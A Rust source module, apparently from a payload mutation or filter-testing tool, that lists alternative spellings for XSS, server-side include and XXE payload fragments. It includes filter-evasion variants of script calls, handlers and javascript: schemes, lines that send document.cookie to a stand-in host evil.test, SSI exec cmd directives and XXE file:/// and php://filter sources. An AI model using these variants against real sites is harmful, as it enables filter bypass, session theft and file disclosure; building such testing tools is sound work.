//! Other spellings of HTML, scripts in it, directives and entities.

use super::{Spelling, of};

const HTML: &[&str] = &["xss"];

pub(crate) const SPELLINGS: &[Spelling] = &[
    of("blanks in tags", HTML, &[(" ", &["/", "\t", "\n", "\r", "\u{c}", " / ", "/**/", "\t\n"])]),
    of(
        "space after names",
        HTML,
        &[
            ("<script", &["<script ", "<script\n", "<script/x", "<script\tx=1", "<script x='>'"]),
            ("=", &[" = ", "\n=\n", "\t="]),
        ],
    ),
    of(
        "quotes of attributes",
        HTML,
        &[
            ("=alert(1)", &["='alert(1)'", "=\"alert(1)\"", "=`alert(1)`", "= 'alert(1)'"]),
            ("=x", &["='x'", "=\"x\"", "=//"]),
        ],
    ),
    of(
        "other handlers",
        HTML,
        &[
            ("onload", &["onpageshow", "onfocus", "onbegin", "onpointerenter", "onanimationstart", "ontransitionend"]),
            ("onerror", &["onload", "onloadstart", "onclick", "onwheel", "onauxclick"]),
            ("onmouseover", &["onfocus", "onpointerrawupdate", "onbeforeinput", "ontouchstart"]),
            ("ontoggle", &["onclick", "onbeforetoggle", "onfocusin"]),
        ],
    ),
    of(
        "other elements",
        HTML,
        &[
            ("<img", &["<image", "<video", "<audio", "<input type=image", "<x-y", "<object"]),
            ("<svg", &["<svg/x", "<body", "<style", "<math", "<marquee", "<a:b"]),
            ("<details", &["<xss", "<dialog", "<select"]),
            ("<body", &["<frameset", "<html", "<svg"]),
        ],
    ),
    of(
        "scripts otherwise",
        HTML,
        &[
            (
                "alert(1)",
                &[
                    "alert`1`",
                    "(alert)(1)",
                    "top['al'+'ert'](1)",
                    "window[\"alert\"](1)",
                    "eval(atob('YWxlcnQoMSk='))",
                    "confirm(1)",
                    "prompt()",
                    "\\u0061lert(1)",
                    "import('//evil.test')",
                    "location='//evil.test/'+document.cookie",
                    "[1].find(alert)",
                    "a=alert,a(1)",
                    "setTimeout('ale'+'rt(1)')",
                    "new Function`a${1}`",
                    "alert?.(1)",
                    "fetch('//evil.test')",
                    "throw onerror=alert,1",
                    "self[`al`+`ert`](1)",
                ],
            ),
            (
                "document.cookie",
                &[
                    "document['cookie']",
                    "document[\"coo\"+\"kie\"]",
                    "self.document.cookie",
                    "document.domain",
                    "localStorage.token",
                ],
            ),
        ],
    ),
    of(
        "schemes otherwise",
        HTML,
        &[(
            "javascript:",
            &[
                "JaVaScRiPt:",
                "java\tscript:",
                "java\nscript:",
                "&#106;avascript:",
                "javascript&colon;",
                "\u{1}javascript:",
                "java&Tab;script:",
                "javascript://%0a",
                "jav&#x0A;ascript:",
                "vbscript:",
                "data:text/html,<script>",
            ],
        )],
    ),
    of(
        "tags left open",
        HTML,
        &[("</script>", &["</script", "</script x>", "</script\n>"]), (")>", &[")//", ") ", ") x=", ")\n"])],
    ),
    of(
        "directives otherwise",
        &["ssi"],
        &[
            ("<!--#", &["<!--#  ", "<!--#\n"]),
            ("exec cmd", &["EXEC cmd", "exec  cmd", "exec\tcmd", "exec cgi", "include file", "exec cmd "]),
            (
                "include virtual",
                &["include file", "INCLUDE VIRTUAL", "include\tvirtual", "flastmod file", "fsize file"],
            ),
            ("printenv", &["echo var=\"DATE_LOCAL\"", "PRINTENV", "set var=\"a\" value=\"b\"", "config errmsg=\"x\""]),
            ("\"", &["'", "`", ""]),
            (" -->", &["-->"]),
        ],
    ),
    of(
        "entities otherwise",
        &["xxe"],
        &[
            ("SYSTEM", &["PUBLIC \"x\"", "SYSTEM\n", "\tSYSTEM"]),
            (
                "file:///",
                &["FILE:///", "http://127.0.0.1/", "php://filter/resource=/", "netdoc:///", "jar:file:///", "/"],
            ),
            ("<!DOCTYPE", &["<!-- x --><!DOCTYPE", "<?a b?><!DOCTYPE", "\n<!DOCTYPE", "<!DOCTYPE\n"]),
        ],
    ),
];
